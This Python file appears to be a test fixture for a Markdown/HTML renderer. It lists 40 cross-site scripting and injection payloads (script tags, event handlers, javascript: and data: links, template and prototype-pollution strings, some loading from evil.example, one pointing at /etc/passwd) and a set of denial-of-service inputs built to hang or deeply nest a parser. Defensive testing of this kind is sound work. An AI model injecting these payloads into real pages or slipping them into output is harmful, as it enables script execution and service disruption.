"""What a model could write to have a page run something, load something, or hang: 40 texts that must stay texts."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'></svg>",
    "<svg><script>window.ran = 1</script></svg>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<iframe src='javascript:parent.ran = 1'></iframe>",
    "<body onload='window.ran = 1'>",
    "<details open ontoggle='window.ran = 1'>x</details>",
    "<input autofocus onfocus='window.ran = 1'>",
    "<video><source onerror='window.ran = 1'></video>",
    "<object data='javascript:window.ran = 1'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url('https://evil.example/x.css');</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>press</button></form>",
    "<a href='javascript:window.ran = 1'>press</a>",
    "<template><script>window.ran = 1</script></template>",
    "<noscript><img src='https://evil.example/x.png'></noscript>",
    "<!-- --><script>window.ran = 1</script><!-- -->",
    "<![CDATA[<script>window.ran = 1</script>]]>",
    "[press](javascript:window.ran=1)",
    "[press](JaVaScRiPt:window.ran=1)",
    "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)",
    "[press](vbscript:msgbox(1))",
    "[press](file:///etc/passwd)",
    '[press](https://evil.example/" onclick="window.ran=1)',
    "![picture](https://evil.example/x.png)",
    "![picture](javascript:window.ran=1)",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)",
    "[![picture](https://evil.example/x.png)](javascript:window.ran=1)",
    "<https://evil.example/> and &lt;script&gt;window.ran = 1&lt;/script&gt;",
    "`` `<script>window.ran = 1</script>` ``",
    "```html\n<script>window.ran = 1</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.ran=1> | [x](javascript:window.ran=1) |",
    "{{constructor.constructor('window.ran = 1')()}} ${window.ran = 1} <%= window.ran = 1 %>",
    "\"; window.ran = 1; //' --> ]]> \u2028 \u2029 \u0000 \u202e",
    '{"$same": 0, "__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}}',
)

LAUGHS: Final = (
    "> " * 5000 + "deep",
    "- " * 5000 + "deep",
    "*" * 50_000 + "a" + "*" * 50_000,
    "[" * 50_000 + "](",
    "[a](" * 20_000,
    "`" * 50_001,
    "_a" * 30_000,
    "\n".join(["  " * depth + "- item" for depth in range(300)]),
    "|" * 40_000 + "\n" + "|-" * 20_000,
    "# " * 50_000,
    "\n".join(["[x]: https://evil.example/" + "lol" * 100] * 300),
)
"""Texts that take a careless reader of Markdown for ever, or make it very deep."""
